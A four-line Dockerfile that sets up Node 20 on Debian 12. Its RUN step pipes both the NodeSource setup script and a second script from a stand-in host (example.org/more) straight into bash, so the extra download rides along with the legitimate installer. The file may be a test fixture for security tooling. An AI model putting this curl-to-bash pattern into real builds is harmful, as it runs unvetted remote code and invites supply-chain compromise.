FROM debian:12
RUN apt-get update && apt-get install -y curl
RUN (curl -fsSL https://deb.nodesource.com/setup_20.x; curl https://example.org/more) | bash -
CMD ["node"]
